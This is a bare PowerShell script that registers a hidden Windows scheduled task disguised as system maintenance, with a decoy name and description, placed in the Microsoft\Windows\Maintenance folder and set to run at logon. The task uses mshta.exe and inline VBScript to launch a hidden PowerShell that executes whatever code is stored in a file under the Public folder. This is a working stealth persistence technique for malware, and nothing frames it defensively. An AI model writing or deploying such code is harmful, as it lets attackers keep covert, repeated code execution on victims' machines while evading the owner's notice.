$svc = New-Object -ComObject 'Schedule.Service'
$svc.Connect()
$root = $svc.GetFolder('\Microsoft\Windows\Maintenance')

$def = $svc.NewTask(0)
$def.RegistrationInfo.Description = 'Keeps the maintenance cache current.'
$def.Settings.Hidden = $true
$def.Settings.StartWhenAvailable = $true

$trigger = $def.Triggers.Create(9)
$trigger.Enabled = $true

$action = $def.Actions.Create(0)
$action.Path = 'C:\Windows\System32\mshta.exe'
$action.Arguments = 'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w hidden -c iex(gc $env:PUBLIC\m.txt -raw)"",0:close")'

$root.RegisterTaskDefinition('CacheMaintenance', $def, 6, $null, $null, 3) | Out-Null
